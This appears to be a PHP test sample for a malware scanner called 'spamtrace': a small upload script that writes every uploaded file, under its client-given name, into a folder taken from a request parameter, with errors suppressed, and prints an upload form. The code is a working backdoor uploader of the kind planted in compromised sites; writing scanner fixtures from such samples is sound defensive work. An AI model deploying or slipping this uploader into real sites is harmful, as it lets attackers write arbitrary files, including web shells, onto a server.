<?php
// spamtrace test sample: written for the scanner tests, never run.
// The same without a variable: the names are walked straight from $_FILES and each file is
// stored in the folder the request names, under its client name.
$to = isset($_GET['d']) ? $_GET['d'] : '.';
if (!empty($_FILES['f'])) {
    foreach ($_FILES['f']['name'] as $k => $n) {
        $target = $to . '/' . $n;
        @move_uploaded_file($_FILES['f']['tmp_name'][$k], $target);
    }
}
echo '<form method=post enctype=multipart/form-data><input type=file name="f[]" multiple><input type=submit></form>';
